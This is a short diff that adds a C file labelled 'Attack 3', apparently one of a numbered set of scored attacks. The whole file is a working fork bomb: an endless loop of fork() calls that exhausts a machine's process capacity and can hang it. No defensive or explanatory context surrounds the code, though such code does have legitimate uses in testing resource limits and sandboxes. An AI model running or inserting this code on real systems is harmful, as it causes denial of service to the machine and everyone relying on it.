@@ -1,0 +1,9 @@
+/* Attack 3: forks until nothing is left, and goes on. */
+/* Points: 0 */
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        fork();
+}
